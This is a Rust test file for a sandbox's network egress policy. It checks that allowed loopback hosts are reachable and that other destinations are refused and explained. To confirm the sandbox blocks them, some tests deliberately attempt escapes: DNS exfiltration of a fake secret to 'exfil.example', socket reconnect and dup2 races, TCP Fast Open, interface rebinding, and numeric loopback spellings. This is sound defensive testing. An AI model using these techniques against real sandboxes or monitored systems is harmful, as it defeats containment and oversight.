@@ -1,0 +1,601 @@
+//! Transparent egress (issue 11): every program reaches an allowed host
+//! with no proxy variable, in both modes, and a refusal is explained on
+//! stderr and in the result. The "hosts" are servers this test starts on
+//! the host's loopback, allowed with IP-literal patterns
+//! (`--net 127.0.0.1:PORT`): the supervisor connects to them from the
+//! host's namespace. Refusals use 192.0.2.1 (TEST-NET-1), which is refused
+//! before any packet is sent, so no test talks to anything but loopback.
+
+use std::net::{TcpListener, TcpStream, UdpSocket};
+use std::path::PathBuf;
+use std::time::Duration;
+
+use cordon_testkit::{each_mode, kernel_support, sandbox_modes, Dir, HttpServer, Mode, Outcome, StaticServer};
+
+use super::{run_in, tool};
+
+const BODY: &str = "hello from the host\n";
+
+/// `cordon run --mode MODE --net PATTERN... -- ARGS...`.
+fn run_with(mode: Mode, net: &[&str], args: &[&str]) -> Outcome {
+    let mut cmd = run_in(mode);
+    for n in net {
+        cmd.args(["--net", n]);
+    }
+    cmd.arg("--").args(args).run()
+}
+
+/// The notice for a destination refused by the policy.
+#[track_caller]
+fn assert_refused_with_fix(out: &Outcome, dest: &str) {
+    out.assert_stderr_contains(&format!("cordon: network: refused {dest} ("));
+    out.assert_stderr_contains(&format!("— add --net {dest}\n"));
+}
+
+/// A server that counts the connections it accepts and answers nothing.
+fn counting_server() -> StaticServer {
+    StaticServer::start(std::path::Path::new("/nonexistent"))
+}
+
+#[test]
+fn curl_reaches_an_allowed_host_without_a_proxy_and_is_accounted_for_exactly() {
+    let support = kernel_support();
+    let server = HttpServer::start(BODY);
+    let allow = format!("127.0.0.1:{}", server.port);
+    let curl = tool("/usr/bin/curl");
+    each_mode(sandbox_modes!(support), |mode| {
+        let before = server.received();
+        let url = format!("http://127.0.0.1:{}/x", server.port);
+        let out = run_in(mode).args(["--json", "--net", &allow, "--", curl, "-sS", &url]).run();
+        let r = out.json();
+        assert_eq!(r["ok"], true, "{out}");
+        assert_eq!(r["logs"]["lines"][0]["text"], BODY.trim_end());
+        let net = r["network"].as_array().expect("network list");
+        assert_eq!(net.len(), 1, "{net:?}");
+        let c = &net[0];
+        assert_eq!(
+            (c["protocol"].as_str(), c["host"].as_str(), c["allowed"].as_bool()),
+            (Some("tcp"), Some("127.0.0.1"), Some(true))
+        );
+        assert_eq!((c["port"].as_u64(), c["rule"].as_str()), (Some(u64::from(server.port)), Some(allow.as_str())));
+        assert!(c["process"].as_str().unwrap().starts_with("curl, pid "), "{c}");
+        // Exact payload counts, as the server saw them.
+        assert_eq!(c["bytes_up"].as_u64(), Some(server.received() - before), "{c}");
+        assert_eq!(c["bytes_down"].as_u64(), Some(server.response_len()), "{c}");
+        assert_eq!(c["error"], serde_json::Value::Null, "{c}");
+        // No proxy was involved: nothing in the environment points at one.
+        let env = run_with(mode, &[&allow], &["/usr/bin/env"]);
+        env.assert_success();
+        assert!(!env.stdout.to_ascii_lowercase().contains("proxy"), "{env}");
+    });
+}
+
+#[test]
+fn a_refusal_is_explained_counted_and_recorded_even_without_any_net_flag() {
+    let support = kernel_support();
+    let curl = tool("/usr/bin/curl");
+    each_mode(sandbox_modes!(support), |mode| {
+        let script = format!("for i in 1 2 3; do {curl} -sS http://192.0.2.1:81/; done; exit 0");
+        let out = run_in(mode).args(["--json", "--", "/bin/sh", "-c", &script]).run();
+        assert_refused_with_fix(&out, "192.0.2.1:81");
+        // Once on stderr, then the count.
+        assert_eq!(out.stderr.matches("refused 192.0.2.1:81 (").count(), 1, "{out}");
+        out.assert_stderr_contains("cordon: network: refused 192.0.2.1:81 3 times in all");
+        let r = out.json();
+        let c = &r["network"][0];
+        assert_eq!(
+            (c["host"].as_str(), c["port"].as_u64(), c["allowed"].as_bool()),
+            (Some("192.0.2.1"), Some(81), Some(false))
+        );
+        assert_eq!((c["count"].as_u64(), c["suggestion"].as_str()), (Some(3), Some("192.0.2.1:81")));
+        let lines: Vec<&str> =
+            r["logs"]["lines"].as_array().unwrap().iter().filter_map(|l| l["text"].as_str()).collect();
+        assert!(lines.iter().all(|l| l.contains("Couldn't connect to server")), "{lines:?}");
+    });
+}
+
+#[test]
+fn the_sandboxes_own_loopback_stays_its_own_and_the_host_one_needs_a_literal_pattern() {
+    let support = kernel_support();
+    let curl = tool("/usr/bin/curl");
+    let (a, b) = (HttpServer::start(BODY), HttpServer::start(BODY));
+    each_mode(sandbox_modes!(support), |mode| {
+        let url_b = format!("http://127.0.0.1:{}/", b.port);
+        let before = b.received();
+        // Only A is allowed: B's port is the sandbox's own, where nothing listens.
+        let out = run_with(mode, &[&format!("127.0.0.1:{}", a.port)], &[curl, "-sS", &url_b]);
+        out.assert_code(7);
+        out.assert_stderr_contains(&format!(
+            "cordon: network: 127.0.0.1:{} is the sandbox's own loopback and nothing listens there (curl, pid ",
+            b.port
+        ));
+        out.assert_stderr_contains(&format!("— add --net 127.0.0.1:{}\n", b.port));
+        // `*` does not unlock the host's loopback either.
+        run_with(mode, &["*"], &[curl, "-sS", &url_b]).assert_code(7);
+        assert_eq!(b.received(), before, "[{}] the host's server was reached", mode.as_str());
+        // Control: named literally, it is reached.
+        run_with(mode, &[&format!("127.0.0.1:{}", b.port)], &[curl, "-sS", &url_b]).assert_stdout_eq(BODY);
+        assert!(b.received() > before);
+    });
+}
+
+#[test]
+fn python_socket_and_urllib_reach_the_allowed_host_with_proxy_variables_unset() {
+    let support = kernel_support();
+    let python = tool("/usr/bin/python3");
+    let server = HttpServer::start(BODY);
+    let script = r#"
+import socket, sys, urllib.request
+port = int(sys.argv[1])
+s = socket.create_connection(("127.0.0.1", port), timeout=10)
+s.sendall(b"GET / HTTP/1.0\r\n\r\n")
+print("socket", s.recv(4096).split(b"\r\n")[0].decode())
+opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
+print("urllib", opener.open(f"http://127.0.0.1:{port}/").read().decode(), end="")
+for url in ("http://192.0.2.1:82/",):
+    try:
+        opener.open(url, timeout=10)
+    except OSError as e:
+        print("refused", getattr(e, "reason", e))
+"#;
+    each_mode(sandbox_modes!(support), |mode| {
+        let out =
+            run_with(mode, &[&format!("127.0.0.1:{}", server.port)], &[python, "-c", script, &server.port.to_string()]);
+        out.assert_success();
+        out.assert_stdout_eq(&format!("socket HTTP/1.1 200 OK\nurllib {BODY}refused [Errno 111] Connection refused\n"));
+        assert_refused_with_fix(&out, "192.0.2.1:82");
+    });
+}
+
+#[test]
+fn node_fetch_and_http_get_reach_the_allowed_host() {
+    let support = kernel_support();
+    let node = tool("/usr/bin/node");
+    let server = HttpServer::start(BODY);
+    let script = r#"
+const http = require('node:http');
+const get = (u) => new Promise((ok) => http.get(u, (res) => {
+  let b = ''; res.on('data', (d) => b += d); res.on('end', () => ok(`${res.statusCode} ${b.trim()}`));
+}).on('error', (e) => ok(`error ${e.code}`)));
+(async () => {
+  for (const u of process.argv.slice(1)) {
+    console.log('http.get', await get(u));
+    try { const r = await fetch(u); console.log('fetch', r.status, (await r.text()).trim()); }
+    catch (e) { console.log('fetch error', e.cause && e.cause.code); }
+  }
+})();
+"#;
+    each_mode(sandbox_modes!(support), |mode| {
+        let ok = format!("http://127.0.0.1:{}/", server.port);
+        let out = run_with(
+            mode,
+            &[&format!("127.0.0.1:{}", server.port)],
+            &[node, "-e", script, &ok, "http://192.0.2.1:83/"],
+        );
+        out.assert_success();
+        let hello = BODY.trim();
+        out.assert_stdout_eq(&format!(
+            "http.get 200 {hello}\nfetch 200 {hello}\nhttp.get error ECONNREFUSED\nfetch error ECONNREFUSED\n"
+        ));
+        assert_refused_with_fix(&out, "192.0.2.1:83");
+    });
+}
+
+#[test]
+fn java_http_client_reaches_the_allowed_host() {
+    let support = kernel_support();
+    let (java, javac) = (tool("/usr/bin/java"), tool("/usr/bin/javac"));
+    let server = HttpServer::start(BODY);
+    let dir = Dir::new("egress-java");
+    dir.create(
+        "Fetch.java",
+        r#"import java.net.URI;
+import java.net.http.*;
+public class Fetch {
+    public static void main(String[] urls) throws Exception {
+        HttpClient client = HttpClient.newBuilder().proxy(HttpClient.Builder.NO_PROXY).build();
+        for (String u : urls) {
+            try {
+                HttpResponse<String> r = client.send(HttpRequest.newBuilder(URI.create(u)).build(), HttpResponse.BodyHandlers.ofString());
+                System.out.println(r.statusCode() + " " + r.body().trim());
+            } catch (java.io.IOException e) {
+                System.out.println("error " + e.getClass().getSimpleName());
+            }
+        }
+    }
+}
+"#,
+    );
+    let built = std::process::Command::new(javac).arg("-d").arg(dir.path()).arg(dir.join("Fetch.java")).status();
+    assert!(built.expect("javac runs").success(), "javac failed");
+    each_mode(sandbox_modes!(support), |mode| {
+        let ok = format!("http://127.0.0.1:{}/", server.port);
+        let out = run_in(mode)
+            .arg("--read")
+            .arg(dir.path())
+            .args(["--net", &format!("127.0.0.1:{}", server.port), "--", java, "-cp"])
+            .arg(dir.path())
+            .args(["Fetch", &ok, "http://192.0.2.1:84/"])
+            .run();
+        out.assert_success();
+        out.assert_stdout_eq(&format!("200 {}\nerror ConnectException\n", BODY.trim()));
+        assert_refused_with_fix(&out, "192.0.2.1:84");
+    });
+}
+
+/// A bare repository with one commit, ready for git's dumb HTTP protocol.
+fn dumb_http_repo(dir: &Dir) -> PathBuf {
+    let git = tool("/usr/bin/git");
+    let work = dir.create_dir("work");
+    dir.create("work/README", "cloned through cordon\n");
+    let sh = |args: &[&str], cwd: &std::path::Path| {
+        let status = std::process::Command::new(git)
+            .args(args)
+            .current_dir(cwd)
+            .env("HOME", dir.path())
+            .env("GIT_AUTHOR_NAME", "t")
+            .env("GIT_AUTHOR_EMAIL", "t@t")
+            .env("GIT_COMMITTER_NAME", "t")
+            .env("GIT_COMMITTER_EMAIL", "t@t")
+            .status()
+            .expect("git runs");
+        assert!(status.success(), "git {args:?}");
+    };
+    sh(&["init", "-q", "-b", "main"], &work);
+    sh(&["add", "README"], &work);
+    sh(&["commit", "-q", "-m", "one"], &work);
+    let served = dir.create_dir("served");
+    sh(&["clone", "-q", "--bare", work.to_str().unwrap(), served.join("repo.git").to_str().unwrap()], dir.path());
+    sh(&["update-server-info"], &served.join("repo.git"));
+    served
+}
+
+#[test]
+fn git_clones_over_plain_http_from_the_allowed_host() {
+    let support = kernel_support();
+    let git = tool("/usr/bin/git");
+    let dir = Dir::new("egress-git");
+    let server = StaticServer::start(&dumb_http_repo(&dir));
+    each_mode(sandbox_modes!(support), |mode| {
+        let script = format!(
+            "{git} clone -q http://127.0.0.1:{}/repo.git /tmp/c && cat /tmp/c/README; {git} clone -q http://192.0.2.1:85/repo.git /tmp/d; exit 0",
+            server.port
+        );
+        let out = run_with(mode, &[&format!("127.0.0.1:{}", server.port)], &["/bin/sh", "-c", &script]);
+        out.assert_success();
+        out.assert_stdout_eq("cloned through cordon\n");
+        out.assert_stderr_contains("Failed to connect to 192.0.2.1 port 85");
+        assert_refused_with_fix(&out, "192.0.2.1:85");
+    });
+}
+
+/// Asks the stub DNS (the sandbox's 127.0.0.1:53) for a name's A record
+/// and prints `rcode=N answers=M first=ADDR`, then, with a port, connects
+/// to the first address and prints what the server sent.
+const DNS_PROBE: &str = r#"
+import socket, struct, sys
+name, port = sys.argv[1], (int(sys.argv[2]) if len(sys.argv) > 2 else 0)
+q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
+for label in name.split("."):
+    q += bytes([len(label)]) + label.encode()
+q += b"\0" + struct.pack(">HH", 1, 1)
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(5)
+s.connect(("127.0.0.1", 53))
+s.send(q)
+r = s.recv(512)
+answers = struct.unpack(">H", r[6:8])[0]
+first = socket.inet_ntoa(r[-4:]) if answers else "-"
+print(f"rcode={r[3] & 15} answers={answers} first={first}")
+if port and answers:
+    c = socket.create_connection((first, port), timeout=10)
+    c.sendall(b"GET / HTTP/1.0\r\n\r\n")
+    print(c.recv(4096).split(b"\r\n")[0].decode())
+"#;
+
+#[test]
+fn a_name_that_is_not_allowed_gets_nxdomain_and_is_reported() {
+    let support = kernel_support();
+    let python = tool("/usr/bin/python3");
+    let getent = tool("/usr/bin/getent");
+    each_mode(sandbox_modes!(support), |mode| {
+        // Some name is allowed, so the stub answers, and refuses the rest.
+        let out = run_in(mode)
+            .args(["--json", "--net", "allowed.example", "--", "/bin/sh", "-c"])
+            .arg(format!("{getent} hosts blocked.example; echo getent=$?; {python} -c '{DNS_PROBE}' blocked.example"))
+            .run();
+        let r = out.json();
+        let text: Vec<&str> =
+            r["logs"]["lines"].as_array().unwrap().iter().filter_map(|l| l["text"].as_str()).collect();
+        assert_eq!(text, ["getent=2", "rcode=3 answers=0 first=-"], "{out}");
+        out.assert_stderr_contains("cordon: network: refused lookup of blocked.example (getent, pid ");
+        out.assert_stderr_contains("— add --net blocked.example\n");
+        let c = &r["network"][0];
+        assert_eq!(
+            (c["protocol"].as_str(), c["host"].as_str(), c["allowed"].as_bool()),
+            (Some("dns"), Some("blocked.example"), Some(false))
+        );
+        // Control: an allowed name is answered, with a synthetic address.
+        let out = run_with(mode, &["localhost"], &[python, "-c", DNS_PROBE, "localhost"]);
+        out.assert_success();
+        assert!(out.stdout.starts_with("rcode=0 answers=1 first=198.18."), "{out}");
+    });
+}
+
+#[test]
+fn dns_exfiltration_through_long_labels_is_refused() {
+    let support = kernel_support();
+    let python = tool("/usr/bin/python3");
+    let secret = format!("{}.{}.{}", "a1".repeat(31), "b2".repeat(31), "c3".repeat(25));
+    let name = format!("{secret}.exfil.example");
+    each_mode(sandbox_modes!(support), |mode| {
+        let out =
+            run_in(mode).args(["--json", "--net", "*.allowed.example", "--", python, "-c", DNS_PROBE, &name]).run();
+        let r = out.json();
+        assert_eq!(r["logs"]["lines"][0]["text"], "rcode=3 answers=0 first=-", "{out}");
+        out.assert_stderr_contains(&format!("cordon: network: refused lookup of {name} ("));
+        assert_eq!(r["network"][0]["host"], name.as_str());
+        // A name longer than DNS allows gets no further.
+        let too_long = format!("{secret}.{secret}.{secret}.exfil.example");
+        let out = run_with(mode, &["*.allowed.example"], &[python, "-c", DNS_PROBE, &too_long]);
+        assert!(out.stdout.starts_with("rcode=3 answers=0"), "{out}");
+    });
+}
+
+#[test]
+fn a_name_pattern_never_reaches_the_hosts_loopback_but_an_address_pattern_does() {
+    let support = kernel_support();
+    let python = tool("/usr/bin/python3");
+    let server = HttpServer::start(BODY);
+    let port = server.port.to_string();
+    each_mode(sandbox_modes!(support), |mode| {
+        let before = server.received();
+        // Numeric spellings the host's resolver turns into 127.0.0.1.
+        for name in ["2130706433", "0x7f000001", "0177.0.0.1"] {
+            let out = run_with(mode, &[&format!("{name}:{port}")], &[python, "-c", DNS_PROBE, name, &port]);
+            out.assert_stdout_eq("rcode=3 answers=0 first=-\n");
+            out.assert_stderr_contains(&format!("cordon: network: refused lookup of {name} (python3, pid "));
+            out.assert_stderr_contains("resolves to a loopback address (127.0.0.1)");
+            out.assert_stderr_contains("— add --net 127.0.0.1\n");
+        }
+        assert_eq!(server.received(), before, "[{}] a name pattern reached the loopback server", mode.as_str());
+        // Control: `localhost` names loopback literally, so the stub's name
+        // reaches the host's server, through a synthetic address.
+        let out = run_with(mode, &[&format!("localhost:{port}")], &[python, "-c", DNS_PROBE, "localhost", &port]);
+        out.assert_success();
+        assert!(out.stdout.ends_with("\nHTTP/1.1 200 OK\n"), "{out}");
+        assert!(server.received() > before);
+    });
+}
+
+#[test]
+fn udp_never_leaves_the_sandbox() {
+    let support = kernel_support();
+    let python = tool("/usr/bin/python3");
+    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
+    udp.set_read_timeout(Some(Duration::from_millis(300))).unwrap();
+    let port = udp.local_addr().unwrap().port();
+    let probe = format!(
+        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'x', ('127.0.0.1', {port}))\nc = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ntry:\n    c.connect(('192.0.2.1', {port})); c.send(b'y'); print('sent')\nexcept OSError as e: print(e.strerror)"
+    );
+    // Control: outside a sandbox the datagram arrives.
+    run_in(Mode::Dev).args(["--", python, "-c", &probe]).run().assert_success();
+    assert!(udp.recv_from(&mut [0u8; 8]).is_ok(), "control: the datagram reached the host");
+    each_mode(sandbox_modes!(support), |mode| {
+        // Even with the port allowed literally: UDP is DNS only.
+        let out = run_with(mode, &[&format!("127.0.0.1:{port}"), "192.0.2.1"], &[python, "-c", &probe]);
+        out.assert_stdout_eq("Network is unreachable\n");
+        out.assert_stderr_contains(&format!("cordon: network: refused 192.0.2.1:{port} ("));
+        out.assert_stderr_contains("UDP does not leave the sandbox");
+        assert!(udp.recv_from(&mut [0u8; 8]).is_err(), "[{}] a datagram reached the host", mode.as_str());
+    });
+}
+
+/// The probes of `tests/probes/egress_probe.c`, built once.
+fn probe() -> (Dir, PathBuf) {
+    let dir = Dir::new("egress-probe");
+    let src = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/probes/egress_probe.c");
+    let bin = dir.join("egress_probe");
+    let out = std::process::Command::new(tool("/usr/bin/gcc"))
+        .args(["-O", "-pthread", "-o"])
+        .arg(&bin)
+        .arg(&src)
+        .output()
+        .expect("gcc runs");
+    assert!(out.status.success(), "gcc: {}", String::from_utf8_lossy(&out.stderr));
+    (dir, bin)
+}
+
+/// Runs the probe in `mode` (with its folder readable) or, for `Mode::Dev`,
+/// with no sandbox at all: the control.
+fn run_probe(mode: Mode, dir: &Dir, bin: &std::path::Path, net: &[String], args: &[&str]) -> Outcome {
+    let mut cmd = run_in(mode);
+    if mode != Mode::Dev {
+        cmd.arg("--read").arg(dir.path());
+        for n in net {
+            cmd.args(["--net", n]);
+        }
+    }
+    cmd.arg("--").arg(bin).args(args).run()
+}
+
+#[test]
+fn a_handed_over_socket_cannot_be_disconnected_and_reconnected() {
+    let support = kernel_support();
+    let (dir, bin) = probe();
+    let (allowed, forbidden) = (HttpServer::start(BODY), counting_server());
+    let (a, f) = (allowed.port.to_string(), forbidden.port.to_string());
+    let net = [format!("127.0.0.1:{a}")];
+    // Control: without a sandbox, AF_UNSPEC dissolves the connection and
+    // the socket connects again, to the forbidden server.
+    run_probe(Mode::Dev, &dir, &bin, &net, &["unspec-reconnect", &a, &f])
+        .assert_stdout_eq("connect=0\nunspec=0\nagain=0\n");
+    assert_eq!(forbidden.accepted(), 1);
+    each_mode(sandbox_modes!(support), |mode| {
+        run_probe(mode, &dir, &bin, &net, &["unspec-reconnect", &a, &f])
+            .assert_stdout_eq("connect=0\nunspec=EOPNOTSUPP\nagain=EISCONN\n");
+        assert_eq!(forbidden.accepted(), 1, "[{}] the forbidden server was reached", mode.as_str());
+    });
+}
+
+/// A listener whose accept queue is full: a new connection to it stays in
+/// SYN_SENT. The streams that fill it are returned with it.
+fn full_listener() -> (TcpListener, Vec<TcpStream>) {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let addr = listener.local_addr().unwrap();
+    let mut held = vec![];
+    for _ in 0..1000 {
+        match TcpStream::connect_timeout(&addr, Duration::from_millis(200)) {
+            Ok(s) => held.push(s),
+            Err(_) => return (listener, held),
+        }
+    }
+    panic!("the accept queue of {addr} never filled");
+}
+
+/// A port nothing listens on right now.
+fn free_port() -> u16 {
+    TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port()
+}
+
+#[test]
+fn a_socket_is_never_handed_over_before_it_is_established() {
+    use std::io::{BufRead, BufReader};
+    let support = kernel_support();
+    let (dir, bin) = probe();
+    let (target, _held) = full_listener();
+    let t = target.local_addr().unwrap().port().to_string();
+    let net = [format!("127.0.0.1:{t}")];
+    // Runs the probe until it holds its port, then tries to take that port
+    // on the host: `true` when the probe had it.
+    let attack = |mode: Mode| -> (String, bool) {
+        let port = free_port();
+        let mut cmd = run_in(mode);
+        if mode != Mode::Dev {
+            cmd.arg("--read").arg(dir.path()).args(["--net", &net[0]]);
+        }
+        cmd.arg("--").arg(&bin).args(["shutdown-bind", &t, &port.to_string()]);
+        let mut child = cmd
+            .command()
+            .stdin(std::process::Stdio::piped())
+            .stdout(std::process::Stdio::piped())
+            .stderr(std::process::Stdio::null())
+            .spawn()
+            .expect("start the probe");
+        let mut out = String::new();
+        let mut lines = BufReader::new(child.stdout.take().unwrap());
+        while !out.contains("listen=") {
+            let mut line = String::new();
+            if lines.read_line(&mut line).unwrap_or(0) == 0 {
+                break;
+            }
+            out.push_str(&line);
+        }
+        let taken =
+            matches!(TcpListener::bind(("127.0.0.1", port)), Err(e) if e.kind() == std::io::ErrorKind::AddrInUse);
+        drop(child.stdin.take());
+        child.wait().expect("the probe ends");
+        (out, taken)
+    };
+    // Control: a connect stuck in SYN_SENT, shut down, is unconnected again
+    // and binds a host port.
+    let (out, taken) = attack(Mode::Dev);
+    assert!(out.starts_with("connect=EINPROGRESS\nshutdown=0\nbind=0\n"), "{out}");
+    assert!(taken, "control: the probe held a host port");
+    each_mode(sandbox_modes!(support), |mode| {
+        // The supervisor waits for ESTABLISHED (here: until the socket's own
+        // 1 s timeout); the caller keeps its own, unconnected socket, whose
+        // port is in the sandbox's namespace only.
+        let (out, taken) = attack(mode);
+        assert_eq!(out, "connect=ETIMEDOUT\nshutdown=ENOTCONN\nbind=0\nlisten=0\n", "[{}]", mode.as_str());
+        assert!(!taken, "[{}] a host port was taken from the sandbox", mode.as_str());
+    });
+}
+
+#[test]
+fn tcp_fast_open_is_refused() {
+    let support = kernel_support();
+    let (dir, bin) = probe();
+    let server = counting_server();
+    let p = server.port.to_string();
+    let net = [format!("127.0.0.1:{p}")];
+    run_probe(Mode::Dev, &dir, &bin, &net, &["fastopen", &p]).assert_stdout_eq("sendto=0\nsendmsg=0\n");
+    assert!(server.accepted() >= 1, "control: fast open connected");
+    let before = server.accepted();
+    each_mode(sandbox_modes!(support), |mode| {
+        // Even to an allowed destination: it would connect without the supervisor.
+        run_probe(mode, &dir, &bin, &net, &["fastopen", &p])
+            .assert_stdout_eq("sendto=EOPNOTSUPP\nsendmsg=EOPNOTSUPP\n");
+        assert_eq!(server.accepted(), before, "[{}]", mode.as_str());
+    });
+}
+
+#[test]
+fn rewriting_the_address_during_the_connect_reaches_nothing_forbidden() {
+    let support = kernel_support();
+    let (dir, bin) = probe();
+    let (allowed, forbidden) = (counting_server(), counting_server());
+    let (a, f) = (allowed.port.to_string(), forbidden.port.to_string());
+    let net = [format!("127.0.0.1:{a}")];
+    run_probe(Mode::Dev, &dir, &bin, &net, &["race-addr", &a, &f, "300"]).assert_success();
+    assert!(forbidden.accepted() > 0, "control: the racing thread made connects go to the other port");
+    let before = forbidden.accepted();
+    each_mode(sandbox_modes!(support), |mode| {
+        let out = run_probe(mode, &dir, &bin, &net, &["race-addr", &a, &f, "300"]);
+        out.assert_success();
+        assert_eq!(
+            forbidden.accepted(),
+            before,
+            "[{}] a rewritten address reached the forbidden server",
+            mode.as_str()
+        );
+        assert!(allowed.accepted() > 0, "{out}");
+    });
+}
+
+#[test]
+fn dup2_of_a_handed_over_socket_over_a_pending_connect_changes_nothing() {
+    let support = kernel_support();
+    let (dir, bin) = probe();
+    let (allowed, forbidden) = (counting_server(), counting_server());
+    let (a, f) = (allowed.port.to_string(), forbidden.port.to_string());
+    let net = [format!("127.0.0.1:{a}")];
+    // Control: without a sandbox the racing connects dissolve the held
+    // connection and bind it.
+    let control = run_probe(Mode::Dev, &dir, &bin, &net, &["dup2-race", &a, &f, "2000"]);
+    control.assert_stdout_contains("connect=0\n");
+    assert!(!control.stdout.contains("peer=allowed"), "control: the held connection was dissolved\n{control}");
+    assert!(forbidden.accepted() > 0, "control: the forbidden server was reached\n{control}");
+    let before = forbidden.accepted();
+    each_mode(sandbox_modes!(support), |mode| {
+        run_probe(mode, &dir, &bin, &net, &["dup2-race", &a, &f, "2000"])
+            .assert_stdout_eq("connect=0\npeer=allowed\nbind=EINVAL\nlisten=EINVAL\n");
+        assert_eq!(forbidden.accepted(), before, "[{}]", mode.as_str());
+    });
+}
+
+#[test]
+fn a_handed_over_socket_cannot_be_moved_to_another_interface() {
+    let support = kernel_support();
+    let (dir, bin) = probe();
+    let server = counting_server();
+    let p = server.port.to_string();
+    let net = [format!("127.0.0.1:{p}")];
+    run_probe(Mode::Dev, &dir, &bin, &net, &["bind-device", &p])
+        .assert_stdout_eq("connect=0\nbindtodevice=0\nbindtoifindex=0\n");
+    each_mode(sandbox_modes!(support), |mode| {
+        run_probe(mode, &dir, &bin, &net, &["bind-device", &p])
+            .assert_stdout_eq("connect=0\nbindtodevice=EPERM\nbindtoifindex=EPERM\n");
+    });
+}
+
+#[test]
+fn vsock_sockets_cannot_be_made() {
+    let support = kernel_support();
+    let (dir, bin) = probe();
+    // Control: this host has vsock (a VM); outside a sandbox the socket is made.
+    run_probe(Mode::Dev, &dir, &bin, &[], &["vsock"]).assert_stdout_eq("socket=0\n");
+    each_mode(sandbox_modes!(support), |mode| {
+        run_probe(mode, &dir, &bin, &[], &["vsock"]).assert_stdout_eq("socket=EAFNOSUPPORT\n");
+    });
+}
